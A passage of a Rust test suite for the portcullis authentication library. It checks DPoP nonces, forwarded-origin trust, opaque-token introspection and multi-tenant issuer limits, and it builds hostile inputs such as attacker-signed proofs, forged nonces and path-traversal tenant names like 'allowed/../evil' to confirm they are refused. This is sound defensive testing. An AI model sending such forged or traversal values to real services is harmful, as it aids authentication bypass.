    // The API takes the bound token with the client's proofs only.
    let security = Security::builder()
        .issuer(dev.issuer())
        .dpop(Dpop::new(PUBLIC_ORIGIN))
        .default_rate(rate!("1000/s"))
        .build()
        .await
        .unwrap();
    let api = SecureRouter::new(security)
        .mount(routes![list_orders])
        .into_router()
        .with_state(Calls::default());
    let htu = format!("{PUBLIC_ORIGIN}/orders");
    let good = dpop::proof(&client, "GET", &htu, &token);
    assert_eq!(
        send(&api, dpop_get("/orders", "DPoP", &token, &[&good]))
            .await
            .status,
        StatusCode::OK
    );
    let other = dpop::proof(&KEYS.attacker, "GET", &htu, &token);
    assert_eq!(
        send(&api, dpop_get("/orders", "DPoP", &token, &[&other]))
            .await
            .status,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        send(&api, get("/orders", &token)).await.status,
        StatusCode::UNAUTHORIZED
    );
}

/// Anyone; a caller who authenticates is greeted by name.
#[public(get, path = "/greeting")]
async fn greeting(caller: Option<Principal>) -> String {
    match caller.as_ref().and_then(Principal::subject) {
        Some(subject) => format!("hello {subject}"),
        None => "hello".to_owned(),
    }
}

/// A proof whose server nonce is of the previous time step (accepted, and expiring at the
/// end of this one) gets its answer with the next nonce in `DPoP-Nonce` (RFC 9449 §8.2),
/// so a client that keeps its nonce current is never refused for it; a current nonce gets
/// none. A public endpoint that reads the caller (`Option<Principal>`) renews it as well.
#[tokio::test]
async fn an_allowed_response_renews_a_dpop_nonce_about_to_expire() {
    const STEP: u64 = 3;
    let dev = dev_issuer();
    let key = SecretSlice::from(vec![9u8; 32]);
    let security = Security::builder()
        .issuer(dev.issuer())
        .dpop(
            Dpop::new(PUBLIC_ORIGIN)
                .server_nonces(DpopNonces::new(&key).step(std::time::Duration::from_secs(STEP))),
        )
        .default_rate(rate!("1000/s"))
        .build()
        .await
        .unwrap();
    let app = SecureRouter::new(security)
        .mount(routes![list_orders, greeting])
        .into_router()
        .with_state(Calls::default());
    let client = TestKey::ec("client", false);
    let mut bound = claims("orders:read");
    bound["cnf"] = json!({ "jkt": dpop::thumbprint(&client) });
    let token = dev_token(&dev, &bound);
    let mut unscoped = claims("profile");
    unscoped["cnf"] = bound["cnf"].clone();
    let unscoped = dev_token(&dev, &unscoped);
    let htu = format!("{PUBLIC_ORIGIN}/orders");
    let proof_for = |token: &str, nonce: &str| {
        let mut claims = dpop::proof_claims("GET", &htu, token);
        claims["nonce"] = json!(nonce);
        dpop::sign_proof(&client, &dpop::proof_header(&client), &claims)
    };
    let with_nonce = |nonce: &str| proof_for(&token, nonce);
    // Sleeps into the next time step, a little past its start.
    let next_step = || async {
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap();
        let into_step = now.as_millis() as u64 % (STEP * 1000);
        tokio::time::sleep(std::time::Duration::from_millis(
            STEP * 1000 - into_step + 100,
        ))
        .await;
    };

    next_step().await;
    let refused = send(
        &app,
        dpop_get(
            "/orders",
            "DPoP",
            &token,
            &[&dpop::proof(&client, "GET", &htu, &token)],
        ),
    )
    .await;
    assert_eq!(refused.bearer_error().as_deref(), Some("use_dpop_nonce"));
    let first = refused.header("dpop-nonce").to_owned();
    let current = send(
        &app,
        dpop_get("/orders", "DPoP", &token, &[&with_nonce(&first)]),
    )
    .await;
    assert_eq!(current.status, StatusCode::OK, "{}", current.text);
    assert!(
        current.headers.get("dpop-nonce").is_none(),
        "a nonce of the current step is not renewed"
    );

    next_step().await;
    let expiring = send(
        &app,
        dpop_get("/orders", "DPoP", &token, &[&with_nonce(&first)]),
    )
    .await;
    assert_eq!(expiring.status, StatusCode::OK, "{}", expiring.text);
    let next = expiring.header("dpop-nonce").to_owned();
    assert_ne!(next, first);
    let forbidden = send(
        &app,
        dpop_get(
            "/orders",
            "DPoP",
            &unscoped,
            &[&proof_for(&unscoped, &first)],
        ),
    )
    .await;
    assert_eq!(
        forbidden.status,
        StatusCode::FORBIDDEN,
        "{}",
        forbidden.text
    );
    assert_eq!(forbidden.header("dpop-nonce"), next);
    let greeting_with = |nonce: &str| {
        let htu = format!("{PUBLIC_ORIGIN}/greeting");
        let mut claims = dpop::proof_claims("GET", &htu, &token);
        claims["nonce"] = json!(nonce);
        let proof = dpop::sign_proof(&client, &dpop::proof_header(&client), &claims);
        dpop_get("/greeting", "DPoP", &token, &[&proof])
    };
    let public = send(&app, greeting_with(&first)).await;
    assert_eq!(public.status, StatusCode::OK, "{}", public.text);
    assert!(public.text.starts_with("hello "), "{}", public.text);
    assert_eq!(public.header("dpop-nonce"), next);
    let public_current = send(&app, greeting_with(&next)).await;
    assert_eq!(public_current.status, StatusCode::OK);
    assert!(public_current.headers.get("dpop-nonce").is_none());
    let anonymous = send(&app, Request::get("/greeting").body(Body::empty()).unwrap()).await;
    assert_eq!(anonymous.text, "hello");
    assert!(anonymous.headers.get("dpop-nonce").is_none());
    let renewed = send(
        &app,
        dpop_get("/orders", "DPoP", &token, &[&with_nonce(&next)]),
    )
    .await;
    assert_eq!(renewed.status, StatusCode::OK, "{}", renewed.text);
    assert!(renewed.headers.get("dpop-nonce").is_none());

    // One step later the first nonce is refused; the renewed one still serves.
    next_step().await;
    let expired = send(
        &app,
        dpop_get("/orders", "DPoP", &token, &[&with_nonce(&first)]),
    )
    .await;
    assert_eq!(expired.bearer_error().as_deref(), Some("use_dpop_nonce"));
    let still = send(
        &app,
        dpop_get("/orders", "DPoP", &token, &[&with_nonce(&next)]),
    )
    .await;
    assert_eq!(still.status, StatusCode::OK, "{}", still.text);
    assert!(still.headers.get("dpop-nonce").is_some());
}

/// With server nonces, a proof must carry a nonce of this service's: without one (or with a
/// forged one) the answer is 401 `use_dpop_nonce` with a fresh nonce in `DPoP-Nonce`, which
/// the client puts in its next proof; an instance with the same key accepts it.
#[tokio::test]
async fn dpop_server_nonces_are_required_when_configured() {
    let dev = dev_issuer();
    let key = SecretSlice::from(vec![9u8; 32]);
    let instance = |key: &SecretSlice<u8>| {
        let (dev, key) = (dev.clone(), key.clone());
        async move {
            let audit = AuditLog::default();
            let security = Security::builder()
                .issuer(dev.issuer())
                .dpop(Dpop::new(PUBLIC_ORIGIN).server_nonces(DpopNonces::new(&key)))
                .default_rate(rate!("1000/s"))
                .audit_sink(audit.sink())
                .build()
                .await
                .unwrap();
            let app = SecureRouter::new(security)
                .mount(routes![list_orders])
                .into_router()
                .with_state(Calls::default());
            (app, audit)
        }
    };
    let (app, audit) = instance(&key).await;
    let (same_key, _) = instance(&key).await;
    let (other_key, _) = instance(&SecretSlice::from(vec![8u8; 32])).await;
    let client = TestKey::ec("client", false);
    let mut bound = claims("orders:read");
    bound["cnf"] = json!({ "jkt": dpop::thumbprint(&client) });
    let token = dev_token(&dev, &bound);
    let htu = format!("{PUBLIC_ORIGIN}/orders");
    let with_nonce = |nonce: &str| {
        let mut claims = dpop::proof_claims("GET", &htu, &token);
        claims["nonce"] = json!(nonce);
        dpop::sign_proof(&client, &dpop::proof_header(&client), &claims)
    };

    let reply = send(
        &app,
        dpop_get(
            "/orders",
            "DPoP",
            &token,
            &[&dpop::proof(&client, "GET", &htu, &token)],
        ),
    )
    .await;
    assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
    let challenge = reply.header("www-authenticate");
    assert!(challenge.starts_with("DPoP "), "{challenge}");
    assert_eq!(
        challenge_param(challenge, "error").as_deref(),
        Some("use_dpop_nonce")
    );
    assert_eq!(audit.last().reason, "dpop_use_nonce");
    let nonce = reply.header("dpop-nonce").to_owned();

    let reply = send(
        &app,
        dpop_get("/orders", "DPoP", &token, &[&with_nonce(&nonce)]),
    )
    .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    let reply = send(
        &same_key,
        dpop_get("/orders", "DPoP", &token, &[&with_nonce(&nonce)]),
    )
    .await;
    assert_eq!(
        reply.status,
        StatusCode::OK,
        "another instance with the key"
    );
    for (name, app, nonce) in [
        ("another key", &other_key, nonce.clone()),
        (
            "a forged nonce",
            &app,
            // Its last character changed (to another one than it has).
            format!(
                "{}{}",
                &nonce[..nonce.len() - 1],
                if nonce.ends_with('A') { 'B' } else { 'A' }
            ),
        ),
        ("a nonce of another shape", &app, "abc".to_owned()),
    ] {
        let reply = send(
            app,
            dpop_get("/orders", "DPoP", &token, &[&with_nonce(&nonce)]),
        )
        .await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{name}");
        assert_eq!(
            reply.bearer_error().as_deref(),
            Some("use_dpop_nonce"),
            "{name}"
        );
    }

    // A key too short to keep nonces unforgeable is refused at start-up.
    let short = Security::builder()
        .issuer(dev.issuer())
        .dpop(
            Dpop::new(PUBLIC_ORIGIN)
                .server_nonces(DpopNonces::new(&SecretSlice::from(vec![1u8; 16]))),
        )
        .default_rate(rate!("1000/s"))
        .build()
        .await;
    assert!(matches!(
        short,
        Err(ConfigError::Dpop(
            portcullis::auth::DpopConfigError::NonceKey
        ))
    ));
}

/// With `Dpop::forwarded_origin`, the scheme and host a trusted proxy forwards make the
/// origin of `htu`; from any other peer they are ignored, and without the switch so are
/// they from a trusted proxy.
#[tokio::test]
async fn forwarded_origins_count_from_trusted_proxies_only_when_switched_on() {
    let dev = dev_issuer();
    let app = |dpop: Dpop| {
        let dev = dev.clone();
        async move {
            let security = Security::builder()
                .issuer(dev.issuer())
                .dpop(dpop)
                .trusted_proxies(
                    portcullis::rate::TrustedProxies::networks(["10.1.0.0/16"]).unwrap(),
                )
                .default_rate(rate!("1000/s"))
                .build()
                .await
                .unwrap();
            SecureRouter::new(security)
                .mount(routes![list_orders])
                .into_router()
                .with_state(Calls::default())
        }
    };
    let switched_on = app(Dpop::new(PUBLIC_ORIGIN).forwarded_origin()).await;
    let switched_off = app(Dpop::new(PUBLIC_ORIGIN)).await;
    let client = TestKey::ec("client", false);
    let mut bound = claims("orders:read");
    bound["cnf"] = json!({ "jkt": dpop::thumbprint(&client) });
    let token = dev_token(&dev, &bound);
    let forwarded = |htu: &str| {
        let proof = dpop::proof(&client, "GET", htu, &token);
        let mut request = dpop_get("/orders", "DPoP", &token, &[&proof]);
        let headers = request.headers_mut();
        headers.insert("x-forwarded-proto", "https".parse().unwrap());
        headers.insert("x-forwarded-host", "shop.example".parse().unwrap());
        request
    };
    let proxy = [10, 1, 0, 5];
    let stranger = [192, 0, 2, 7];
    let shop = "https://shop.example/orders";
    let configured = format!("{PUBLIC_ORIGIN}/orders");
    for (name, app, peer, htu, status) in [
        (
            "from a trusted proxy",
            &switched_on,
            proxy,
            shop,
            StatusCode::OK,
        ),
        (
            "the configured origin, from a trusted proxy that forwards another",
            &switched_on,
            proxy,
            configured.as_str(),
            StatusCode::UNAUTHORIZED,
        ),
        (
            "from a stranger",
            &switched_on,
            stranger,
            shop,
            StatusCode::UNAUTHORIZED,
        ),
        (
            "the configured origin, from a stranger",
            &switched_on,
            stranger,
            configured.as_str(),
            StatusCode::OK,
        ),
        (
            "switched off, from a trusted proxy",
            &switched_off,
            proxy,
            shop,
            StatusCode::UNAUTHORIZED,
        ),
        (
            "switched off, the configured origin",
            &switched_off,
            proxy,
            configured.as_str(),
            StatusCode::OK,
        ),
    ] {
        let reply = send_from(app, forwarded(htu), peer).await;
        assert_eq!(reply.status, status, "{name}: {}", reply.text);
    }
}

/// An error renderer of the app's own changes the body of a DPoP refusal, not its
/// challenges (`DPoP` and `Bearer`) or its `DPoP-Nonce`.
#[tokio::test]
async fn dpop_challenges_and_nonces_survive_the_app_s_error_renderer() {
    struct Plain;
    impl portcullis::ErrorRenderer for Plain {
        fn render(&self, problem: &portcullis::Problem) -> axum::response::Response {
            use axum::response::IntoResponse;
            format!("error: {}", problem.kind()).into_response()
        }
    }
    let dev = dev_issuer();
    let security = Security::builder()
        .issuer(dev.issuer())
        .dpop(
            Dpop::new(PUBLIC_ORIGIN)
                .server_nonces(DpopNonces::new(&SecretSlice::from(vec![3u8; 32]))),
        )
        .error_renderer(Plain)
        .default_rate(rate!("1000/s"))
        .build()
        .await
        .unwrap();
    let app = SecureRouter::new(security)
        .mount(routes![list_orders])
        .into_router()
        .with_state(Calls::default());
    let client = TestKey::ec("client", false);
    let mut bound = claims("orders:read");
    bound["cnf"] = json!({ "jkt": dpop::thumbprint(&client) });
    let token = dev_token(&dev, &bound);
    let proof = dpop::proof(&client, "GET", &format!("{PUBLIC_ORIGIN}/orders"), &token);
    let reply = send(&app, dpop_get("/orders", "DPoP", &token, &[&proof])).await;
    assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
    assert_eq!(reply.text, "error: use-dpop-nonce");
    let challenges: Vec<&str> = reply
        .headers
        .get_all("www-authenticate")
        .iter()
        .map(|value| value.to_str().unwrap())
        .collect();
    assert_eq!(challenges.len(), 2, "{challenges:?}");
    assert!(
        challenges[0].starts_with("DPoP realm=")
            && challenges[0].contains("error=\"use_dpop_nonce\"")
    );
    assert!(challenges[1].starts_with("Bearer realm="));
    assert!(!reply.header("dpop-nonce").is_empty());
}

// ---------------------------------------------------------------------------------------
// Opaque tokens (RFC 7662 introspection)
// ---------------------------------------------------------------------------------------

/// The issuer whose opaque tokens are introspected.
const OPAQUE: &str = "https://opaque.test/";

/// The application under opaque-token attacks: `OPAQUE` introspects at a stand-in endpoint
/// (1 s for inactive answers, 5 minutes for active ones), next to `STATIC`'s JWTs.
async fn opaque_world(
    introspection: impl FnOnce(portcullis::auth::Introspection) -> portcullis::auth::Introspection,
) -> (World, common::introspection::IntrospectionServer) {
    let (world, endpoint, _) = opaque_world_with_security(introspection).await;
    (world, endpoint)
}

/// [`opaque_world`], with its configuration.
async fn opaque_world_with_security(
    introspection: impl FnOnce(portcullis::auth::Introspection) -> portcullis::auth::Introspection,
) -> (World, common::introspection::IntrospectionServer, Security) {
    use common::introspection::{CLIENT_ID, CLIENT_SECRET, IntrospectionServer};
    let endpoint = IntrospectionServer::start().await;
    let dev = dev_issuer();
    let audit = AuditLog::default();
    let config =
        portcullis::auth::Introspection::new(CLIENT_ID, secrecy::SecretString::from(CLIENT_SECRET))
            .endpoint(endpoint.url.clone())
            .inactive_cache(std::time::Duration::from_secs(1));
    let security = Security::builder()
        .issuer(
            Issuer::new(STATIC)
                .audience(AUDIENCE)
                .jwks_json(&static_jwks()),
        )
        .issuer(
            Issuer::new(OPAQUE)
                .audience(AUDIENCE)
                .introspection(introspection(config)),
        )
        .default_rate(rate!("1000/s"))
        .realm("attacks")
        .auth_failure_limit(None)
        .audit_sink(audit.sink())
        .build()
        .await
        .unwrap();
    let calls = Calls::default();
    let app = SecureRouter::new(security.clone())
        .mount(routes![list_orders])
        .into_router()
        .with_state(calls.clone());
    (
        World {
            dev,
            app,
            audit,
            calls,
        },
        endpoint,
        security,
    )
}

#[tokio::test]
async fn opaque_token_attacks_are_refused_with_their_reasons() {
    use common::introspection::active;
    let (world, endpoint) = opaque_world(|config| config).await;
    let now = now();
    let with = |changes: Value| {
        let mut answer = active(OPAQUE, "orders:read");
        for (name, value) in changes.as_object().unwrap() {
            match value {
                Value::Null => answer.as_object_mut().unwrap().remove(name),
                value => answer
                    .as_object_mut()
                    .unwrap()
                    .insert(name.clone(), value.clone()),
            };
        }
        answer
    };
    let rows: Vec<(&str, Option<Value>, Expect)> = vec![
        (
            "inactive",
            Some(json!({ "active": false })),
            refused("inactive_token"),
        ),
        ("unknown to the endpoint", None, refused("inactive_token")),
        (
            "another audience",
            Some(with(json!({ "aud": "billing-api" }))),
            refused("wrong_audience"),
        ),
        (
            "another audience among several",
            Some(with(json!({ "aud": ["billing-api", "orders-api2"] }))),
            refused("wrong_audience"),
        ),
        (
            "no audience",
            Some(with(json!({ "aud": null }))),
            refused("missing_claim"),
        ),
        (
            "another issuer",
            Some(with(json!({ "iss": OTHER }))),
            refused("unknown_issuer"),
        ),
        (
            "another issuer's identifier with a different case",
            Some(with(json!({ "iss": "https://OPAQUE.test/" }))),
            refused("unknown_issuer"),
        ),
        (
            "no exp",
            Some(with(json!({ "exp": null }))),
            refused("missing_claim"),
        ),
        (
            "expired",
            Some(with(json!({ "exp": now - 3600, "iat": now - 3700 }))),
            refused("expired"),
        ),
        (
            "exp as a string",
            Some(with(json!({ "exp": (now + 300).to_string() }))),
            refused("malformed_claim"),
        ),
        (
            "not yet valid",
            Some(with(json!({ "nbf": now + 3600 }))),
            refused("not_yet_valid"),
        ),
        (
            "living longer than the issuer allows",
            Some(with(json!({ "exp": now + 30 * 24 * 3600 }))),
            refused("lifetime_too_long"),
        ),
        (
            "a refresh token",
            Some(with(json!({ "token_type": "refresh_token" }))),
            refused("wrong_token_type"),
        ),
        (
            "a refresh token by token_use",
            Some(with(json!({ "token_use": "refresh_token" }))),
            refused("wrong_token_type"),
        ),
        (
            "bound by an unsupported method",
            Some(with(json!({ "cnf": { "jwk": { "kty": "OKP" } } }))),
            refused("unsupported_confirmation"),
        ),
        (
            "scopes with a space inside an array element",
            Some(with(
                json!({ "scope": null, "scp": ["orders:read orders:write"] }),
            )),
            Expect {
                status: StatusCode::FORBIDDEN,
                error: Some("insufficient_scope"),
                reason: "insufficient_scope",
            },
        ),
    ];
    let mut cases = Vec::new();
    let mut tokens = Vec::new();
    for (index, (name, answer, expect)) in rows.into_iter().enumerate() {
        let token = format!("opaque-attack-{index}-2YotnFZFEjr1zCsicMWpAA");
        if let Some(answer) = answer {
            endpoint.answer(&token, answer);
        }
        tokens.push(token.clone());
        cases.push(Case::token(name, token, expect));
    }
    check(&world, cases).await;
    for token in &tokens {
        assert_eq!(endpoint.hits(token), 1, "each token is asked about once");
    }
    // A `cnf.jkt` makes an opaque token DPoP-bound, as it does a JWT.
    let bound = "opaque-bound-2YotnFZFEjr1zCsicMWpAA";
    endpoint.answer(
        bound,
        with(json!({ "cnf": { "jkt": "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I" } })),
    );
    let reply = send(&world.app, get("/orders", bound)).await;
    assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
    assert_eq!(world.audit.last().reason, "dpop_bound_token_as_bearer");
    assert_eq!(endpoint.unauthenticated(), 0, "every request authenticated");
    assert_eq!(world.calls.load(Ordering::SeqCst), 0);
}

/// Sends `token` and checks that it was refused with 503 and `Retry-After` (fail closed),
/// audited as `introspection_unavailable`, the handler not run, the token not echoed.
async fn unavailable(world: &World, name: &str, token: &str) {
    let events_before = world.audit.events().len();
    let calls_before = world.calls.load(Ordering::SeqCst);
    let reply = send(&world.app, get("/orders", token)).await;
    assert_eq!(
        reply.status,
        StatusCode::SERVICE_UNAVAILABLE,
        "{name}: {}",
        reply.text
    );
    assert_eq!(reply.header("retry-after"), "1", "{name}");
    let events = world.audit.events();
    assert!(
        matches!(&events[events_before..], [event] if event.reason == "introspection_unavailable"
            && event.decision == Decision::Deny),
        "{name}: {:?}",
        &events[events_before..]
    );
    assert_eq!(world.calls.load(Ordering::SeqCst), calls_before, "{name}");
    assert!(!reply.text.contains(token), "{name}: the token was echoed");
}

#[tokio::test]
async fn opaque_answers_the_endpoint_cannot_give_are_refused_with_503() {
    let (world, endpoint) = opaque_world(|config| config).await;
    let rows = [
        ("a server error", StatusCode::INTERNAL_SERVER_ERROR, "{}"),
        ("not JSON", StatusCode::OK, "active=true"),
        (
            "no active member",
            StatusCode::OK,
            r#"{"scope": "orders:read"}"#,
        ),
        (
            "active as a string",
            StatusCode::OK,
            r#"{"active": "true"}"#,
        ),
        (
            "active twice",
            StatusCode::OK,
            r#"{"active": false, "active": true}"#,
        ),
        ("a redirect", StatusCode::FOUND, "{}"),
    ];
    for (index, (name, status, body)) in rows.into_iter().enumerate() {
        let token = format!("opaque-broken-{index}-2YotnFZFEjr1zCsicMWpAA");
        endpoint.answer_raw(&token, status, body);
        unavailable(&world, name, &token).await;
    }
    endpoint.fail_with(Some(StatusCode::BAD_GATEWAY));
    unavailable(
        &world,
        "an endpoint that fails",
        "opaque-down-2YotnFZFEjr1zCsicMWpAA",
    )
    .await;
}

#[tokio::test]
async fn opaque_tokens_go_to_no_endpoint_that_did_not_issue_them() {
    use common::introspection::active;
    // `OPAQUE` recognises its tokens by their prefix: others are sent to no endpoint.
    let (world, endpoint) = opaque_world(|config| config.token_prefix("op_")).await;
    let token = "op_2YotnFZFEjr1zCsicMWpAA";
    endpoint.answer(token, active(OPAQUE, "orders:read"));
    check(
        &world,
        vec![
            Case::token(
                "a token of an unknown shape",
                "zz_2YotnFZFEjr1zCsicMWpAA",
                refused("malformed_token"),
            ),
            Case::token(
                "a JWT-shaped token of no issuer",
                "e30.e30.c2lnbmF0dXJl",
                refused("malformed_token"),
            ),
            Case::token(
                "another issuer's opaque token",
                "pcd_2YotnFZFEjr1zCsicMWpAA",
                refused("malformed_token"),
            ),
        ],
    )
    .await;
    assert_eq!(
        endpoint.total_hits(),
        0,
        "no token went to OPAQUE's endpoint"
    );
    let reply = send(&world.app, get("/orders", token)).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    assert_eq!(endpoint.total_hits(), 1);
    // An opaque token may use every character of RFC 6750's b64token.
    let b64token = "op_a+b/c~d.e-f_g==";
    endpoint.answer(b64token, active(OPAQUE, "orders:read"));
    let reply = send(&world.app, get("/orders", b64token)).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);

    // Two issuers that introspect must each say how their tokens are recognised.
    let introspection = || {
        portcullis::auth::Introspection::new("api", secrecy::SecretString::from("secret"))
            .endpoint(endpoint.url.clone())
    };
    let two = |a: portcullis::auth::Introspection, b: portcullis::auth::Introspection| async move {
        Security::builder()
            .issuer(Issuer::new(OPAQUE).audience(AUDIENCE).introspection(a))
            .issuer(Issuer::new(OTHER).audience(AUDIENCE).introspection(b))
            .default_rate(rate!("10/s"))
            .build()
            .await
    };
    let error = two(introspection(), introspection().token_prefix("ot_"))
        .await
        .unwrap_err();
    assert!(
        matches!(error, ConfigError::IntrospectionRoutes(_)),
        "{error}"
    );
    assert!(error.to_string().contains("token_prefix"), "{error}");
    let error = two(
        introspection().token_prefix("ab"),
        introspection().token_prefix("abc"),
    )
    .await
    .unwrap_err();
    assert!(error.to_string().contains("overlap"), "{error}");
    assert!(
        two(
            introspection().token_prefix("ab_"),
            introspection().token_prefix("cd_")
        )
        .await
        .is_ok()
    );
    // An endpoint in plain HTTP off loopback, or none at all, is refused at start-up.
    for (config, expected) in [
        (
            introspection().endpoint("http://idp.example.com/introspect"),
            "https://",
        ),
        (
            portcullis::auth::Introspection::new("api", secrecy::SecretString::from("s")),
            "no introspection endpoint",
        ),
    ] {
        let error = Security::builder()
            .issuer(Issuer::new(OPAQUE).audience(AUDIENCE).introspection(config))
            .default_rate(rate!("10/s"))
            .build()
            .await
            .unwrap_err();
        assert!(error.to_string().contains(expected), "{error}");
        assert!(!error.to_string().contains("secret"), "{error}");
    }
}

#[tokio::test]
async fn inactive_answers_are_kept_for_the_negative_cache_time_only() {
    use common::introspection::active;
    let (world, endpoint) = opaque_world(|config| config).await;
    let token = "opaque-late-2YotnFZFEjr1zCsicMWpAA";
    check(
        &world,
        vec![Case::token(
            "not active yet",
            token,
            refused("inactive_token"),
        )],
    )
    .await;
    // The provider now says it is active, but the inactive answer is kept for 1 s.
    endpoint.answer(token, active(OPAQUE, "orders:read"));
    check(
        &world,
        vec![Case::token(
            "within the negative-cache time",
            token,
            refused("inactive_token"),
        )],
    )
    .await;
    assert_eq!(endpoint.hits(token), 1, "refused without asking again");
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let reply = send(&world.app, get("/orders", token)).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    assert_eq!(endpoint.hits(token), 2);
    // Active answers are kept: no request for the next uses.
    for _ in 0..3 {
        assert_eq!(
            send(&world.app, get("/orders", token)).await.status,
            StatusCode::OK
        );
    }
    assert_eq!(endpoint.hits(token), 2);
    assert_eq!(world.calls.load(Ordering::SeqCst), 4);
}

#[tokio::test]
async fn opaque_tokens_are_revoked_by_jti_or_by_digest() {
    use common::introspection::active;
    let (world, endpoint, security) = opaque_world_with_security(|config| config).await;
    let with_jti = "opaque-jti-2YotnFZFEjr1zCsicMWpAA";
    let without_jti = "opaque-digest-2YotnFZFEjr1zCsicMWpAA";
    let mut answer = active(OPAQUE, "orders:read");
    answer["jti"] = json!("token-7");
    let exp = answer["exp"].as_u64().unwrap();
    endpoint.answer(with_jti, answer);
    endpoint.answer(without_jti, active(OPAQUE, "orders:read"));
    for token in [with_jti, without_jti] {
        let reply = send(&world.app, get("/orders", token)).await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    }
    // The principal names the token by its `jti`, or by its digest.
    assert_eq!(
        security.verify(with_jti, None).await.unwrap().token_id(),
        Some("token-7")
    );
    let digest = portcullis::auth::opaque_token_id(without_jti);
    assert_eq!(
        security.verify(without_jti, None).await.unwrap().token_id(),
        Some(digest.as_str())
    );
    // Through the router again: its answers are cached for its scope registry.
    for token in [with_jti, without_jti] {
        assert_eq!(
            send(&world.app, get("/orders", token)).await.status,
            StatusCode::OK
        );
    }
    let hits = (endpoint.hits(with_jti), endpoint.hits(without_jti));
    security.revoke_token(OPAQUE, "token-7", exp).await.unwrap();
    security.revoke_token(OPAQUE, &digest, exp).await.unwrap();
    // Revocations are checked on every request, cached answers included.
    check(
        &world,
        vec![
            Case::token("revoked by jti", with_jti, refused("revoked")),
            Case::token("revoked by digest", without_jti, refused("revoked")),
        ],
    )
    .await;
    assert_eq!(
        (endpoint.hits(with_jti), endpoint.hits(without_jti)),
        hits,
        "refused from the cached answers"
    );
}

// ---------------------------------------------------------------------------------------
// Multi-tenant issuers (`Issuer::discover_tenants`): a provider anyone can open a tenant at,
// trusted for the tenants on the list only.

/// The tenants' provider on loopback, serving `allowed` and `partner` (both on the list) and
/// `evil` (a tenant of the same provider, not on it), each with its own key; and the
/// application trusting the template for `allowed` and `partner`.
struct TenantWorld {
    world: World,
    idp: common::tenants::TenantIdp,
    allowed: TestKey,
    partner: TestKey,
    evil: TestKey,
}

async fn tenant_world() -> TenantWorld {
    let idp = common::tenants::TenantIdp::start().await;
    let (allowed, partner, evil) = (
        TestKey::ed25519("allowed-key"),
        TestKey::ed25519("partner-key"),
        TestKey::ed25519("evil-key"),
    );
    idp.publish("allowed", jwks(&[&allowed]));
    idp.publish("partner", jwks(&[&partner]));
    idp.publish("evil", jwks(&[&evil]));
    let template = Issuer::discover_tenants(idp.template(), ["allowed", "partner"]);
    let world = world_with(vec![template.audience(AUDIENCE)]).await;
    TenantWorld {
        world,
        idp,
        allowed,
        partner,
        evil,
    }
}

/// Claims of a token of `tenant` (its `iss` and `tid`).
fn tenant_token_claims(idp: &common::tenants::TenantIdp, tenant: &str) -> Value {
    let mut claims = claims_for(&idp.issuer(tenant));
    claims["tid"] = json!(tenant);
    claims
}

fn tenant_token(key: &TestKey, claims: &Value) -> String {
    key.sign(jsonwebtoken::Algorithm::EdDSA, Some("JWT"), claims)
}

#[tokio::test]
async fn a_tenant_off_the_list_is_refused_without_a_fetch() {
    let tenants = tenant_world().await;
    let idp = &tenants.idp;
    let evil = tenant_token_claims(idp, "evil");
    let mut cases = vec![Case::token(
        "a valid token of a tenant off the list",
        tenant_token(&tenants.evil, &evil),
        refused("tenant_not_allowed"),
    )];
    for (what, iss, tid) in [
        ("claiming an allowed tid", idp.issuer("evil"), "allowed"),
        (
            "a tenant with a path",
            idp.issuer("allowed/../evil"),
            "allowed",
        ),
        (
            "a tenant with an encoded path",
            idp.issuer("allowed%2F..%2Fevil"),
            "allowed",
        ),
        ("a tenant in capitals", idp.issuer("ALLOWED"), "ALLOWED"),
        (
            "a tenant extending an allowed one",
            idp.issuer("allowed.evil"),
            "allowed.evil",
        ),
    ] {
        let mut claims = evil.clone();
        claims["iss"] = json!(iss);
        claims["tid"] = json!(tid);
        cases.push(Case::token(
            format!("evil key, iss {what}"),
            tenant_token(&tenants.evil, &claims),
            refused("tenant_not_allowed"),
        ));
    }
    check(&tenants.world, cases).await;
    // Nothing was asked of the provider, for that tenant or any other.
    assert_eq!(idp.requests_for("evil"), (0, 0, 0));
    assert_eq!(idp.total_requests(), 0);
}

#[tokio::test]
async fn tid_and_iss_disagreeing_are_refused() {
    let tenants = tenant_world().await;
    let idp = &tenants.idp;
    let mut cases = Vec::new();
    for (what, key, iss_of, tid) in [
        (
            "allowed's token naming partner",
            &tenants.allowed,
            "allowed",
            json!("partner"),
        ),
        (
            "partner's token naming allowed",
            &tenants.partner,
            "partner",
            json!("allowed"),
        ),
        (
            "allowed's token naming evil",
            &tenants.allowed,
            "allowed",
            json!("evil"),
        ),
        (
            "allowed's token, tid in capitals",
            &tenants.allowed,
            "allowed",
            json!("ALLOWED"),
        ),
        (
            "allowed's token, tid with a space",
            &tenants.allowed,
            "allowed",
            json!("allowed "),
        ),
    ] {
        let mut claims = tenant_token_claims(idp, iss_of);
        claims["tid"] = tid;
        cases.push(Case::token(
            what,
            tenant_token(key, &claims),
            refused("tenant_mismatch"),
        ));
    }
    let mut no_tid = tenant_token_claims(idp, "allowed");
    no_tid.as_object_mut().unwrap().remove("tid");
    cases.push(Case::token(
        "allowed's token without tid",
        tenant_token(&tenants.allowed, &no_tid),
        refused("missing_claim"),
    ));
    let mut array_tid = tenant_token_claims(idp, "allowed");
    array_tid["tid"] = json!(["allowed"]);
    cases.push(Case::token(
        "allowed's token, tid an array",
        tenant_token(&tenants.allowed, &array_tid),
        refused("malformed_claim"),
    ));
    // Another tenant's key with a matching `tid`: the signature fails first.
    cases.push(Case::token(
        "partner's key, allowed's iss and tid",
        tenant_token(&tenants.partner, &tenant_token_claims(idp, "allowed")),
        refused("unknown_kid"),
    ));
    check(&tenants.world, cases).await;
    // The same tokens, honest, pass.
    for (key, tenant) in [(&tenants.allowed, "allowed"), (&tenants.partner, "partner")] {
